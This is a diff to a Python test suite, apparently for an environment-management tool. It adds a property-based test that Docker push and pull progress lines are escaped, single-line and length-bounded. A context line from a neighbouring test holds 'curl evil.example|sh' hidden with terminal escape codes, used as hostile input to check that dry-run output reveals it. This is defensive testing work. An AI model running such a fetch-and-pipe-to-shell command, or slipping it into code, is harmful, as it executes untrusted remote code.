@@ -444,6 +444,24 @@ def test_a_dry_run_batch_script_shows_every_character_of_the_command(home, tmp_p
     assert "curl evil.example|sh\\x1b[2K\\x0dpython train.py" in r.stdout
 
 
+@settings(max_examples=300, deadline=None)
+@given(st.text(min_size=1, max_size=80), st.text(max_size=400), st.integers(0, 10**9), st.integers(1, 10**9))
+def test_push_and_pull_progress_lines_show_the_stream_s_words_escaped_and_clipped(layer, status, current, total):
+    """Progress lines carry words the engine and the registry chose: whatever they are, the line
+    printed is visible text, one line, of bounded length, and still names the layer."""
+    from envman.engine.docker import layer_progress
+    from envman.errors import printable
+
+    seen: dict = {}
+    line = layer_progress({"id": layer, "status": status, "progressDetail": {"current": current, "total": total}}, seen)
+    if line is None:  # only a repeat of the layer's last state is dropped
+        assert seen == {} and status == "" and current * 4 < total
+        return
+    _no_raw_controls(line)
+    assert "\n" not in line and line.startswith(printable(layer) + ": ")
+    assert len(line) <= len(printable(layer)) + 2 + 120 + len("… (0000 more characters)") + len(" 75% of 1000 MB")
+
+
 def test_a_newline_in_a_registered_name_cannot_forge_a_line(home, tmp_path, hostile):
     from envman.project.registry import registry_path
 
